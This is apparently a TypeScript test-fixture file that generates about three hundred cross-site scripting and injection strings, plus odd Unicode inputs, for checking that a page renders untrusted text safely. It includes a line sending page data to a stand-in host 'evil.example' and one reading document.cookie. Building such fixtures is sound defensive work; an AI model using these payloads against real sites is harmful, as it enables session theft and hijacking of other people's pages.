/** What a script does when it could run: `window.hit`, a dialog, or a request. */
const PAYLOADS = [
  'window.hit=1',
  'alert(1)',
  'top.hit=document.cookie',
  'fetch("https://evil.example/"+document.title)',
  'this.ownerDocument.defaultView.hit=1',
] as const;

/** Ways out of the place where a text is put, each with a script at `§`. */
const CONTEXTS = [
  '<script>§</script>',
  '"><script>§</script>',
  "'><script>§</script>",
  '</textarea></title></style></template></noscript><script>§</script>',
  '--><script>§</script><!--',
  ']]><script>§</script>',
  '<img src=x onerror=§>',
  '"><img src=x onerror="§">',
  '<svg/onload=§>',
  '<svg><animate onbegin=§ attributeName=x dur=1s>',
  '<svg><script href="data:text/javascript,§"/></svg>',
  '<math><mtext></p><style><img src=x onerror=§></style>',
  '<iframe srcdoc="<script>parent.§</script>">',
  '<iframe src="javascript:§">',
  '<object data="javascript:§">',
  '<embed src="javascript:§">',
  '<form action="javascript:§"><button>Copy link</button></form>',
  '<button formaction="javascript:§" form=x>Copy</button>',
  '<a href="javascript:§">Copied</a>',
  '<a href="java\tscript:§">x</a>',
  '<details open ontoggle=§>',
  '<input autofocus onfocus=§>',
  '<video><source onerror=§>',
  '<body onload=§>',
  '<meta http-equiv="refresh" content="0;url=javascript:§">',
  '<base href="javascript:§//">',
  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:§)}">',
  '<style>*{background:url("javascript:§")}</style>',
  '<template shadowrootmode=open><script>§</script></template>',
  '<x-card onclick=§ tabindex=1 autofocus>',
  '" onmouseover="§" x="',
  "' onfocus='§' autofocus '",
  '` onload=`§',
  'javascript:§',
  'data:text/html,<script>§</script>',
  '[click](javascript:§)',
  '![x](x "onerror=§")',
  '[url=javascript:§]x[/url]',
  '`x <javascript:§>`_',
  '&lt;script&gt;§&lt;/script&gt;',
  '&#60;script&#62;§&#60;/script&#62;',
  '\\u003cscript\\u003e§\\u003c/script\\u003e',
  '%3Cscript%3E§%3C/script%3E',
  '{{constructor.constructor("§")()}}',
  '${§}',
  '#{§}',
  '<%= § %>',
  '__proto__[hit]=§',
  'constructor.prototype.hit=§',
  '$& $1 $` § $$',
  '=HYPERLINK("javascript:§","x")',
  '@SUM(1+1)*cmd|§',
  '\0<script>§</script>',
  '<scr\0ipt>§</scr\0ipt>',
  '\u202e<script>§</script>',
  '\ufeff<script>§</script>',
  '\u2028<script>§</script>\u2029',
  '＜script＞§＜/script＞',
] as const;

const ODD = [
  '\u202e\u2066\u2067txt.exe',
  '\u0001\u0002\u0007\u0008\u001b[31m red',
  '\ud800 half \udfff',
  '🏳️‍🌈'.repeat(40),
  'Z\u0351\u036b\u0343'.repeat(60),
  'ﷺ﷽'.repeat(30),
  '<'.repeat(400),
  '&'.repeat(400),
  `<b>${'a'.repeat(10_000)}</b>`,
  '\u200b\u200c\u200d\u2060 nothing to be seen',
] as const;

/** Three hundred texts that try to be more than text: each way out with each script, and odd ones. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...PAYLOADS.flatMap((script) => CONTEXTS.map((context) => context.replace('§', () => script))),
  ...ODD,
];

/** As text in HTML, so that a page's field holds the very text. NUL and halves cannot be written. */
export function asHtml(text: string): string {
  return text.replace(/[&<>"\0\r]/g, (sign) => `&#${sign.charCodeAt(0)};`);
}
